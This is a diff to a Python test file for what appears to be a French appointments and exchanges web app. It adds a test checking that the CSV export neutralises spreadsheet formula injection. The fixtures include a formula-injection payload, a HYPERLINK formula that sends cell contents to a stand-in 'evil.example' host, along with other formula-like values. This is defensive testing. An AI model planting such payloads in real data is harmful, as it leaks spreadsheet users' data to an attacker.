@@ -203,3 +203,17 @@ def test_my_day_lists_my_appointments_and_those_of_my_site(world, booking, perso
     page = response.content.decode()
     assert "Mes rendez-vous du jour (1)" in page and f"Aujourd'hui à {booking.site.name} (1)" in page
     assert "Sophie Girard" in page and person92.display_name in page
+
+
+def test_csv_export_writes_formula_like_text_as_text(world, person92):
+    person92.usage_name = "@somme(A1:A9)"
+    person92.save()
+    ExchangeFactory(
+        persons=[person92], agent=world.agent92, service=world.accueil92, organisation=world.org92,
+        summary='=HYPERLINK("https://evil.example/?d="&A1;"Cliquez")', follow_up="-2+3",
+    )  # fmt: skip
+    response = world.client_for(world.agent92).get(reverse("exchanges:export"))
+    row = next(csv.reader(io.StringIO(response.content.decode("utf-8-sig").splitlines()[1]), delimiter=";"))
+    assert row[9] == '\'=HYPERLINK("https://evil.example/?d="&A1;"Cliquez")'
+    assert row[10] == "'-2+3"
+    assert row[7].startswith("'@SOMME(A1:A9)")
